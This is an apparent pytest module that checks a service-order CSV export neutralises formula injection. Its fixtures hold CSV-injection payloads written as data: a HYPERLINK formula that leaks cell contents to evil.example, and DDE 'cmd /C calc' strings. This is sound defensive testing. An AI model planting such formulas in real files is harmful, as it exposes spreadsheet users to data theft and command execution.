"""CSV injection in GET /api/exports/service-orders.csv, on the real replica: text cells
that a spreadsheet would run as formulas (=, +, -, @, tab, carriage return) come out with
a leading single quote and quoted (OWASP); numbers stay unquoted numbers; and the export
imports back unchanged."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import AsyncIterator, Iterator

import httpx
import psycopg
import pytest

from nexes.db.exports import export_query
from nexes.db.orders import OrderFilter
from nexes.jobs import imports_runner as import_runner
from nexes.settings import Settings
from tests.conftest import client_for, gql
from tests.support.databases import own_database
from tests.support.imports import close_worker_pool, job_row, store_async
from tests.support.replicas import wait_for_replica

URL = "/api/exports/service-orders.csv"
PREFIX = "-XL"  # every order of this module: a SOD number that itself begins with "-"
CUSTOMER = "-2-3"  # a customer code a spreadsheet would compute (-5)
SKU = "-SKU-HOSTILE"
DESCRIPTIONS = {
    f"{PREFIX}-1": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    f"{PREFIX}-2": "+cmd|' /C calc'!A0",
    f"{PREFIX}-3": "@SUM(1+1)*cmd|' /C calc'!A0",
    f"{PREFIX}-4": "\t=1+1",
    f"{PREFIX}-5": "\r=1+1",
    f"{PREFIX}-6": "-2+3",
    f"{PREFIX}-7": "'=already quoted once",
    f"{PREFIX}-8": "plain text, = later on",
}
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MUTATIONS = """
mutation($c: CreateCustomerInput!, $s: CreateStockItemInput!) {
  createCustomer(input: $c) { errors { code message } }
  createStockItem(input: $s) { errors { code message } }
}"""
CREATE = """mutation($input: CreateServiceOrderInput!) {
  createServiceOrder(input: $input) { errors { code message } } }"""


DB = "nexes_t_hostile_exports"


@pytest.fixture(scope="module")
def hostile_orders(template_settings: Settings) -> Iterator[Settings]:
    """A database of this module's own: the session's seeded one keeps exactly its seed."""
    with own_database(template_settings, DB) as settings:
        asyncio.run(_create(settings))
        wait_for_replica(settings)
        yield settings


async def _create(settings: Settings) -> None:
    async with client_for(settings) as api:
        body = await gql(
            api, MUTATIONS, {"c": {"code": CUSTOMER, "name": "=cmd|' /C calc'!A0"}, "s": {"sku": SKU, "name": "@x"}}
        )
        assert body["data"]["createCustomer"]["errors"] == [] == body["data"]["createStockItem"]["errors"], body
        for sod, description in DESCRIPTIONS.items():
            order = {
                "sodNumber": sod,
                "customerCode": CUSTOMER,
                "description": description,
                "lines": [{"sku": SKU, "quantity": 3, "unitPrice": "12.50"}],
            }
            body = await gql(api, CREATE, {"input": order})
            assert body["data"]["createServiceOrder"]["errors"] == [], body


@pytest.fixture
async def api(hostile_orders: Settings) -> AsyncIterator[httpx.AsyncClient]:
    async with client_for(hostile_orders) as client:
        yield client


async def export(api: httpx.AsyncClient) -> bytes:
    response = await api.get(URL, params={"sodNumberPrefix": PREFIX})
    assert response.status_code == 200, response.text
    return response.content


async def test_text_cells_that_begin_like_a_formula_get_a_single_quote_and_are_quoted(api: httpx.AsyncClient) -> None:
    raw = await export(api)
    rows = list(csv.DictReader(io.StringIO(raw.decode(), newline="")))
    assert {r["sod_number"] for r in rows} == {"'" + sod for sod in DESCRIPTIONS}
    for row in rows:
        sod = row["sod_number"][1:]
        description = DESCRIPTIONS[sod]
        expected = "'" + description if description.lstrip("'").startswith(TRIGGERS) else description
        assert row["description"] == expected, row
        assert row["customer_code"] == "'" + CUSTOMER
        assert row["sku"] == "'" + SKU
        for column in ("sod_number", "customer_code", "description", "sku"):
            assert not row[column].startswith(TRIGGERS), (column, row)
    # On the wire, every text cell is quoted: a neutralised one reads "'=...".
    assert b'"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in raw
    assert b'"\'-2-3"' in raw and b'"plain text, = later on"' in raw


async def test_numbers_stay_unquoted_numbers(api: httpx.AsyncClient) -> None:
    raw = await export(api)
    for record in raw.decode().split("\n")[1:]:  # COPY ends records with \n; a \r is data
        if record.startswith('"' + "'" + PREFIX):
            assert record.endswith(",1,\"'" + SKU + '",3,12.50'), record


def test_a_negative_amount_in_a_numeric_column_stays_a_number(db: psycopg.Connection) -> None:
    """No stored price is negative (a CHECK), so the export's own columns are checked on a
    row of literals: the neutralising CASE is only around the text columns."""
    query, _ = export_query(OrderFilter())
    text = query.as_string(db)
    for numeric in ("l.line_no", "l.quantity", "l.unit_price"):
        assert f"CASE WHEN {numeric}" not in text
    out = io.BytesIO()
    with db.cursor().copy(
        "COPY (SELECT '-12.50'::numeric(12, 2) AS unit_price, '-x'::text AS sku) "
        "TO STDOUT WITH (FORMAT csv, FORCE_QUOTE (sku))"
    ) as copy:
        for data in copy:
            out.write(data)
    assert out.getvalue() == b'-12.50,"-x"\n'


async def test_the_neutralised_export_imports_back_unchanged(api: httpx.AsyncClient, hostile_orders: Settings) -> None:
    raw = await export(api)
    job = await store_async(hostile_orders, raw, "hostile-export.csv")
    try:
        outcome = await asyncio.to_thread(import_runner.run, job, hostile_orders)
    finally:
        close_worker_pool()
    with psycopg.connect(hostile_orders.admin_url, autocommit=True) as db:
        row = job_row(db, job)
        stored = dict(db.execute("SELECT sod_number, description FROM service_order WHERE sod_number LIKE '-XL-%'"))
    assert outcome == "SUCCEEDED", row
    assert (row["inserted"], row["updated"], row["unchanged"], row["failed"]) == (0, 0, len(DESCRIPTIONS), 0), row
    assert stored == DESCRIPTIONS
